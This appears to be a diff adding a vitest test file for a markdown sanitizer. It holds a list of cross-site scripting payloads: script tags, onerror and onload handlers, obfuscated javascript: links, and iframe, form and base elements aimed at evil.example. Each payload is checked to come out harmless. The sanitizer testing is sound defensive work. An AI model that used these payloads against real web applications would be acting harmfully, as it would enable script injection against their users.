@@ -1,0 +1,90 @@
+import { toHtml } from 'hast-util-to-html';
+import type { Nodes } from 'hast';
+import { markdownToHast } from 'satteri';
+import { expect, test } from 'vitest';
+import { elementsIn, html } from './rendered.ts';
+
+const harmless = /^(a|b|blockquote|br|code|dd|del|details|div|dl|dt|em|h[2-6]|hr|i|img|input|ins|kbd|label|li|ol|p|picture|pre|q|rp|rt|ruby|s|samp|section|source|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|tr|tt|ul|var)$/;
+
+/** Everything in the markup that could run, load or restyle something, or claim an id. */
+function dangersIn(markup: string): string[] {
+  return elementsIn(markup).flatMap(({ tagName, properties }) => [
+    ...(harmless.test(tagName) ? [] : [tagName]),
+    ...Object.entries(properties).flatMap(([name, value]) => {
+      if (/^on|^style$|^form|^name$|^id$/i.test(name)) return [`${tagName}[${name}]`];
+      const isAddress = /^(href|src|cite|xLinkHref|data|action)$/.test(name);
+      return isAddress && !/^(https?|mailto|tel):$/.test(new URL(String(value), 'https://help.example/').protocol) ? [`${tagName}[${name}=${String(value)}]`] : [];
+    }),
+  ]);
+}
+
+test.each([
+  '<script>alert(1)</script>',
+  '<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><animate onbegin="alert(1)" attributeName="x"></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)">',
+  '<IMG SRC=x OnErRoR=alert(1)>',
+  '<div onclick="alert(1)">x</div>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](java&#115;cript:alert(1))',
+  '[x][y]\n\n[y]: javascript:alert(1)',
+  '<javascript:alert(1)>',
+  '<a href="java&#115;cript:alert(1)">x</a>',
+  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
+  '<a href="java\nscript:alert(1)">x</a>',
+  '<a href="  javascript:alert(1)">x</a>',
+  '<a href="\u0001javascript:alert(1)">x</a>',
+  '<a href="vbscript:x">x</a>',
+  '[x](data:text/html,<script>alert(1)</script>)',
+  '![x](data:image/svg+xml,x)',
+  '<img src="data:image/png;base64,AAAA">',
+  '<blockquote cite="javascript:alert(1)">x</blockquote>',
+  '<p style="color:red">x</p>',
+  '<style>body { display: none }</style>',
+  '<iframe src="https://evil.example/"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="x.swf"></object><embed src="x.swf">',
+  '<form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button></form>',
+  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=x"><link rel="stylesheet" href="x">',
+  '<div id="content" name="content">x</div>',
+  '<a id="top" name="top">x</a>',
+])('%j is made harmless', (attack) => {
+  const unsafe = toHtml(markdownToHast(attack, { features: { gfm: true, rawHtml: true } }) as Nodes);
+  expect(dangersIn(unsafe)).not.toEqual([]);
+  expect(dangersIn(html(attack))).toEqual([]);
+});
+
+test('markup that a lenient parser could read in another way stays an attribute', () => {
+  const attack = '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>';
+  expect(dangersIn(html(attack))).toEqual([]);
+});
+
+test('the text of a script is not shown, the text around it is', () => {
+  expect(html('<p>before <script>alert(1)</script>after</p>')).toBe('<p>before after</p>');
+});
+
+test('markup in code and as entities stays text', () => {
+  expect(html('`<b>x</b>` &lt;i&gt;')).toBe('<p><code>&#x3C;b>x&#x3C;/b></code> &#x3C;i></p>');
+});
+
+test('check boxes of authors can be neither sent nor ticked', () => {
+  expect(html('<p>x <input type="password" name="secret"></p>')).toBe('<p>x <input disabled type="checkbox"></p>');
+});
+
+test.each([
+  ['**bold** and *slanted*', '<p><strong>bold</strong> and <em>slanted</em></p>'],
+  ['~~gone~~', '<p><del>gone</del></p>'],
+  ['<kbd>Ctrl</kbd>', '<p><kbd>Ctrl</kbd></p>'],
+  ['a  \nb', '<p>a<br>\nb</p>'],
+  ['https://example.com', '<p><a href="https://example.com">https://example.com</a></p>'],
+  ['[call](tel:+123) [write](mailto:a@b.example)', '<p><a href="tel:+123">call</a> <a href="mailto:a@b.example">write</a></p>'],
+  ['---\n\ntext', '<hr><p>text</p>'],
+  ['<div>\n\n**bold**\n\n</div>', '<div><p><strong>bold</strong></p></div>'],
+])('%j is rendered', (markdown, expected) => {
+  expect(html(markdown)).toBe(expected);
+});
